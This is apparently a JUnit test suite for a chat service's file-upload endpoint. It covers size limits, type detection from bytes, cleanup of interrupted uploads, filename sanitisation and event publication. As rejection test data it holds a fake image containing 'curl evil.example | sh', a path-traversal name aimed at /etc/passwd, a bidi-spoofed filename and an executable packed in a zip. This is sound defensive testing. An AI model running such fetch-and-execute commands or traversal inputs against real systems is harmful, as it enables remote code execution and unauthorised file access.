package org.projectchat.files;

import org.projectchat.contract.Topic;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.junit.jupiter.api.Test;
import org.projectchat.contract.CloudEventHeaders;
import org.projectchat.contract.EventJson;
import org.projectchat.contract.FileEvent;
import org.projectchat.embedded.EmbeddedServersExtension;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import tools.jackson.databind.JsonNode;

import java.io.ByteArrayOutputStream;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

class UploadTest extends FileServiceTest {

    static final long LIMIT = 25L * 1024 * 1024;
    static final byte[] PNG = Base64.getDecoder().decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");

    @Autowired
    JdbcTemplate jdbc;

    @org.springframework.beans.factory.annotation.Value("${files.upload-dir}")
    java.nio.file.Path uploadDir;

    long spooled() {
        try (var files = java.nio.file.Files.list(uploadDir)) {
            return files.count();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static JsonNode json(HttpResponse<String> response) {
        return EventJson.mapper().readTree(response.body());
    }

    static void assertProblem(HttpResponse<String> response, int status, String detail) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
        assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(response.body()).contains(detail);
    }

    long files() {
        return jdbc.queryForObject("select count(*) from files", Long.class);
    }

    long objects() {
        // uploads only: thumbnails of earlier uploads' images may appear meanwhile under thumbnails/
        try (var paths = java.nio.file.Files.walk(EmbeddedServersExtension.sharedStack().dataDir().resolve("s3/project-files/files"))) {
            return paths.filter(java.nio.file.Files::isRegularFile).count();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** A body of {@code size} bytes of text, generated as it is sent. */
    static HttpRequest.BodyPublisher text(long size) {
        byte[] line = "0123456789abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ\n".getBytes(StandardCharsets.US_ASCII);
        return HttpRequest.BodyPublishers.fromPublisher(HttpRequest.BodyPublishers.ofInputStream(() -> new java.io.InputStream() {
            long sent;

            @Override
            public int read() {
                return sent < size ? line[(int) (sent++ % line.length)] : -1;
            }

            @Override
            public int read(byte[] b, int off, int len) {
                if (sent >= size) {
                    return -1;
                }
                int n = (int) Math.min(len, size - sent);
                for (int i = 0; i < n; i++) {
                    b[off + i] = line[(int) ((sent + i) % line.length)];
                }
                sent += n;
                return n;
            }
        }), size);
    }

    @Test
    void exactly25MiBIsStoredAndAnnouncedAndOneByteMoreIsRefusedLeavingNothing() throws Exception {
        var chat = openProject();
        var accepted = upload(EXPERT, chat.projectId, "big.txt", text(LIMIT));
        assertThat(accepted.statusCode()).as(accepted.body()).isEqualTo(201);
        assertThat(json(accepted).get("size").asLong()).isEqualTo(LIMIT);
        String fileId = json(accepted).get("fileId").asString();
        var event = awaitFileEvent(chat.projectId, fileId);
        assertThat(event.size()).isEqualTo(LIMIT);
        assertThat(event.sha256()).isEqualTo(json(accepted).get("sha256").asString());

        long filesBefore = files();
        long objectsBefore = objects();
        assertProblem(upload(EXPERT, chat.projectId, "big.txt", text(LIMIT + 1)), 413, "exceeds");
        assertThat(files()).isEqualTo(filesBefore);
        assertThat(objects()).isEqualTo(objectsBefore);
        assertThat(jdbc.queryForObject("select count(*) from pending_uploads", Long.class)).isZero();
        assertThat(spooled()).as("the big uploads were spooled and their spool files removed").isZero();
    }

    @Test
    void aRefusedFileIsAnsweredWhileItsRestIsStillComing() throws Exception {
        var chat = openProject();
        long before = files();
        byte[] elf = new byte[20 * 1024 * 1024]; // more than socket buffers hold: the server has to read it
        System.arraycopy(new byte[]{0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
        assertProblem(upload(EXPERT, chat.projectId, "holiday.png", elf), 415, "unsupported-file-type");
        byte[] png = Arrays.copyOf(PNG, 2 * 1024 * 1024);
        assertProblem(upload(EXPERT, chat.projectId, "holiday.pdf", png), 415, "does not match");
        assertThat(files()).isEqualTo(before);
        assertThat(spooled()).isZero();
    }

    @Test
    void anUploadCutOffMidwayLeavesNothingBehind() throws Exception {
        var chat = openProject();
        long before = files();
        for (int size : new int[]{1024 * 1024, 8 * 1024 * 1024}) { // held in memory, and spooled
            try (var socket = new java.net.Socket("localhost", port)) {
                String boundary = "cut" + UUID.randomUUID();
                String partHead = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"cut.txt\"\r\n\r\n";
                String head = "POST /projects/" + chat.projectId + "/files HTTP/1.1\r\nHost: localhost\r\n"
                        + "Authorization: Bearer " + token(EXPERT) + "\r\n"
                        + "Content-Type: multipart/form-data; boundary=" + boundary + "\r\nContent-Length: " + (partHead.length() + size + 100)
                        + "\r\n\r\n" + partHead;
                var out = socket.getOutputStream();
                out.write(head.getBytes(StandardCharsets.US_ASCII));
                byte[] text = "half of a file that never ends\n".repeat(1000).getBytes(StandardCharsets.US_ASCII);
                for (int sent = 0; sent < size * 3 / 4; sent += text.length) {
                    out.write(text);
                }
                out.flush();
            } // closed mid-file
        }
        await(this::spooled, n -> n == 0);
        assertThat(files()).isEqualTo(before);
        assertThat(jdbc.queryForObject("select count(*) from pending_uploads", Long.class)).isZero();
    }

    @Test
    void aRequestAnnouncingMoreThanTheLimitIsRefusedBeforeItsBodyIsSent() throws Exception {
        var chat = openProject();
        try (var socket = new java.net.Socket("localhost", port)) {
            socket.setSoTimeout(10_000);
            String head = "POST /projects/" + chat.projectId + "/files HTTP/1.1\r\nHost: localhost\r\n"
                    + "Authorization: Bearer " + token(EXPERT) + "\r\n"
                    + "Content-Type: multipart/form-data; boundary=xyz\r\nContent-Length: " + (LIMIT + 1024 * 1024) + "\r\n\r\n";
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            String answer = new String(socket.getInputStream().readNBytes(2048), StandardCharsets.UTF_8);
            assertThat(answer).startsWith("HTTP/1.1 413").contains("application/problem+json").contains("exceeds");
        }
    }

    @Test
    void theLimitIsPublished() {
        var limits = get(EXPERT, "/files/limits");
        assertThat(limits.statusCode()).isEqualTo(200);
        assertThat(json(limits).get("maxFileBytes").asLong()).isEqualTo(LIMIT);
    }

    @Test
    void typesAreJudgedFromTheBytes() throws Exception {
        var chat = openProject();
        byte[] elf = new byte[4096];
        System.arraycopy(new byte[]{0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
        assertProblem(upload(EXPERT, chat.projectId, "holiday.png", elf), 415, "unsupported-file-type");
        assertProblem(upload(EXPERT, chat.projectId, "cat.png", "#!/bin/sh\ncurl evil.example | sh\n".getBytes()), 415,
                "does not match");
        assertProblem(upload(EXPERT, chat.projectId, "report.docx", zip(Map.of("payload.exe", "MZ..."))), 415, "application/zip");
        assertProblem(upload(EXPERT, chat.projectId, "notes.txt", new byte[]{'a', 0, 'b', 0}), 415, "not accepted");
        assertProblem(upload(EXPERT, chat.projectId, "notes.txt", new byte[]{'a', 'b', 'c', (byte) 0xC3, 0x28, 'd', '\n'}), 415,
                "not text");

        var png = upload(EXPERT, chat.projectId, "pixel.png", PNG);
        assertThat(png.statusCode()).as(png.body()).isEqualTo(201);
        assertThat(json(png).get("contentType").asString()).isEqualTo("image/png");
        var docx = upload(EXPERT, chat.projectId, "brief.docx", docx());
        assertThat(docx.statusCode()).as(docx.body()).isEqualTo(201);
        assertThat(json(docx).get("contentType").asString())
                .isEqualTo("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
        var code = upload(EXPERT, chat.projectId, "Main.java", "class Main { /* ünïcode */ }".getBytes(StandardCharsets.UTF_8));
        assertThat(code.statusCode()).as(code.body()).isEqualTo(201);
        var pdf = upload(EXPERT, chat.projectId, "spec.pdf", "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF".getBytes());
        assertThat(pdf.statusCode()).as(pdf.body()).isEqualTo(201);
    }

    @Test
    void namesAreNeutralisedAndNeverReachTheStorageKey() {
        var chat = openProject();
        var traversal = upload(EXPERT, chat.projectId, "../../../etc/passwd.txt", "root:x:0:0".getBytes());
        assertThat(traversal.statusCode()).isEqualTo(201);
        assertThat(json(traversal).get("name").asString()).isEqualTo("passwd.txt");
        var bidi = upload(EXPERT, chat.projectId, "invoice\u202Egnp.txt", "hello".getBytes());
        assertThat(json(bidi).get("name").asString()).isEqualTo("invoice_gnp.txt");
        var reserved = upload(EXPERT, chat.projectId, "CON.txt", "hello".getBytes());
        assertThat(json(reserved).get("name").asString()).isEqualTo("_CON.txt");
        String fileId = json(traversal).get("fileId").asString();
        assertThat(jdbc.queryForObject("select object_key from files where file_id = ?", String.class, fileId))
                .isEqualTo("files/" + fileId);
    }

    @Test
    void badRequestsAreProblemsAndStoreNothing() {
        var chat = openProject();
        long before = files();
        String boundary = "b" + UUID.randomUUID();
        var noFile = send(HttpRequest.newBuilder(java.net.URI.create(base() + "/projects/" + chat.projectId + "/files"))
                .header("Authorization", "Bearer " + token(EXPERT))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofString("--" + boundary + "\r\nContent-Disposition: form-data; name=\"other\"\r\n\r\nx\r\n--"
                        + boundary + "--\r\n")).build());
        assertProblem(noFile, 400, "multipart field 'file'");
        var cutShort = send(HttpRequest.newBuilder(java.net.URI.create(base() + "/projects/" + chat.projectId + "/files"))
                .header("Authorization", "Bearer " + token(EXPERT))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofString("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; "
                        + "filename=\"a.txt\"\r\n\r\nhalf a file")).build());
        assertProblem(cutShort, 400, "malformed-multipart");
        assertProblem(upload(EXPERT, chat.projectId, "empty.txt", new byte[0]), 400, "empty");
        assertProblem(upload(EXPERT, "prj-nowhere-" + UUID.randomUUID().toString().substring(0, 6), "a.txt", "x".getBytes()), 404, "No project");
        assertProblem(upload(OUTSIDER, chat.projectId, "a.txt", "x".getBytes()), 403, "do not take part");
        assertThat(files()).isEqualTo(before);
    }

    @Test
    void aConcurrentBurstIsStoredAndAnnouncedExactlyOnce() throws Exception {
        var chat = openProject();
        List<Future<HttpResponse<String>>> results = new ArrayList<>();
        try (var pool = Executors.newFixedThreadPool(8)) {
            for (int i = 0; i < 16; i++) {
                byte[] content = ("file number " + i + "\n").repeat(1000 + i).getBytes();
                int n = i;
                results.add(pool.submit(() -> upload(CLIENT, chat.projectId, "burst-" + n + ".txt", content)));
            }
        }
        List<String> ids = new ArrayList<>();
        for (var r : results) {
            assertThat(r.get().statusCode()).isEqualTo(201);
            ids.add(json(r.get()).get("fileId").asString());
        }
        var events = fileEvents(chat.projectId, ids.size() + 1); // + the probe
        var announced = events.stream().map(FileEvent.FileUploaded::fileId).filter(ids::contains).toList();
        assertThat(announced).containsExactlyInAnyOrderElementsOf(ids);
        byte[] first = ("file number 0\n").repeat(1000).getBytes();
        String sha = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(first));
        assertThat(events.stream().filter(e -> e.fileName().equals("burst-0.txt")).findFirst().orElseThrow().sha256()).isEqualTo(sha);
    }

    FileEvent.FileUploaded awaitFileEvent(String projectId, String fileId) {
        return fileEvents(projectId, 2).stream().filter(e -> e.fileId().equals(fileId)).findFirst()
                .orElseThrow(() -> new AssertionError("no FileUploaded for " + fileId));
    }

    /** Reads the project's file events until {@code expected} arrived, then a second more (duplicates would show). */
    static List<FileEvent.FileUploaded> fileEvents(String projectId, int expected) {
        Map<String, Object> config = Map.of(
                ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, EmbeddedServersExtension.sharedStack().kafka().bootstrapServers(),
                ConsumerConfig.GROUP_ID_CONFIG, "test-" + UUID.randomUUID(),
                ConsumerConfig.AUTO_OFFSET_RESET_CONFIG, "earliest",
                ConsumerConfig.ISOLATION_LEVEL_CONFIG, "read_committed");
        List<FileEvent.FileUploaded> events = new ArrayList<>();
        try (var consumer = new KafkaConsumer<>(config, new StringDeserializer(), new ByteArrayDeserializer())) {
            consumer.subscribe(List.of(Topic.FILE_EVENTS.name()));
            java.util.function.Consumer<Duration> poll = wait -> {
                for (var record : consumer.poll(wait)) {
                    if (projectId.equals(record.key())) {
                        assertThat(CloudEventHeaders.read(record.headers(), "ce_type")).isEqualTo("org.projectchat.file.FileUploaded");
                        events.add((FileEvent.FileUploaded) EventJson.read(record.value()).payload());
                    }
                }
            };
            await(() -> {
                poll.accept(Duration.ofMillis(200));
                return events.size();
            }, n -> n >= expected);
            poll.accept(Duration.ofSeconds(1)); // a little longer: anything extra would be a duplicate
        }
        return events;
    }

    static byte[] zip(Map<String, String> entries) throws Exception {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    /** The smallest real Word document: content types, relationships, one paragraph. */
    static byte[] docx() throws Exception {
        var entries = new java.util.LinkedHashMap<String, String>();
        entries.put("[Content_Types].xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                <Default Extension="xml" ContentType="application/xml"/>
                <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
                </Types>""");
        entries.put("_rels/.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
                </Relationships>""");
        entries.put("word/document.xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
                <w:body><w:p><w:r><w:t>Brief</w:t></w:r></w:p></w:body></w:document>""");
        return zip(entries);
    }

    static boolean same(byte[] a, byte[] b) {
        return Arrays.equals(a, b);
    }
}
